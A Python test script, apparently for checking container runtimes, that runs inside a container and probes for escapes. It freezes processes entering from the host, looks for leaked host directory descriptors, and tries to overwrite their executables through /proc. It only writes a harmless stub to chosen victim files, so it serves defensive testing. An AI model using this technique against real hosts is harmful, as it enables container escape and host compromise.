# SPDX-License-Identifier: Apache-2.0
"""Runs inside a container: looks for processes that somebody outside sends into its PID namespace, holds them still, takes their
executable and descriptors, and tries to write to what it got. Prints one line a finding; ends when /tmp/stop is there.

    attacker.py BAIT VICTIMS [stop]

It writes to nothing but VICTIMS ("device:inode,..."): copies that may be lost. Another file that could be written is opened, told and
left alone, so that a runtime that fails this test costs the machine nothing."""
import fcntl
import json
import os
import signal
import sys

BAIT = sys.argv[1]       # name of a file of the host's that no descriptor may lead to
VICTIMS = set(sys.argv[2].split(","))
STOPS = "stop" in sys.argv[3:]
KNOWN = {int(each) for each in os.listdir("/proc") if each.isdigit()}
own = {os.readlink("/proc/self/exe"), "/bin/busybox"}
INSIDE = {(os.stat(each).st_dev, os.stat(each).st_ino) for each in own}
held, told = {}, set()


def say(kind, text):
    if (kind, text) not in told:
        told.add((kind, text))
        print(json.dumps([kind, text]), flush=True)


def sealed(descriptor):
    """A memfd may be opened for writing whatever its seals say; the write fails."""
    try:
        return fcntl.fcntl(descriptor, 1034) & 8  # F_GET_SEALS, F_SEAL_WRITE
    except OSError:
        return False


def look_at(pid):
    """Of a process that was not here when we began."""
    folder = "/proc/%d/" % pid
    if STOPS:
        try:
            os.kill(pid, signal.SIGSTOP)
            say("stopped", "a process that came in")
        except OSError:
            pass
    try:
        exe = os.readlink(folder + "exe")
        if exe not in own:
            say("exe", exe)
            if len(held) < 200:
                held[os.open(folder + "exe", os.O_PATH)] = exe
    except OSError:
        pass
    try:
        for fd in os.listdir(folder + "fd"):
            if not os.path.isdir(folder + "fd/" + fd):
                continue  # 0, 1 and 2 are files that the caller gave
            # From a folder outside of our root ".." leads to the host's.
            if os.path.exists("%sfd/%s%s%s" % (folder, fd, "/.." * 20, BAIT)):
                say("host folder", os.readlink(folder + "fd/" + fd))
    except OSError:
        pass
    for name in ("root", "cwd"):
        if os.path.exists(folder + name + BAIT):
            say("host " + name, BAIT)
    if STOPS:
        try:
            os.kill(pid, signal.SIGCONT)
        except OSError:
            pass


open("/tmp/looks", "w").close()
while not os.path.exists("/tmp/stop"):
    for each in os.listdir("/proc"):
        if each.isdigit() and int(each) not in KNOWN:
            look_at(int(each))
    for descriptor, name in list(held.items()):
        try:
            written = os.open("/proc/self/fd/%d" % descriptor, os.O_WRONLY)
        except OSError as error:
            if error.errno != 26:  # ETXTBSY: it still runs; the attack waits for its end
                os.close(descriptor)
                del held[descriptor]
            continue
        info = os.fstat(written)
        if sealed(written):
            say("sealed", name)
        elif (info.st_dev, info.st_ino) in INSIDE:
            pass  # what the container was given: the process had come to its exec
        elif "%d:%d" % (info.st_dev, info.st_ino) in VICTIMS:
            os.write(written, b"#!/bin/sh\necho overwritten\n")
            say("overwritten", name)
        else:
            say("writable", "%s, device %d:%d, inode %d, %d bytes" % (name, os.major(info.st_dev), os.minor(info.st_dev), info.st_ino, info.st_size))
        os.close(written)
        os.close(descriptor)
        del held[descriptor]
print(json.dumps(["end", ""]), flush=True)
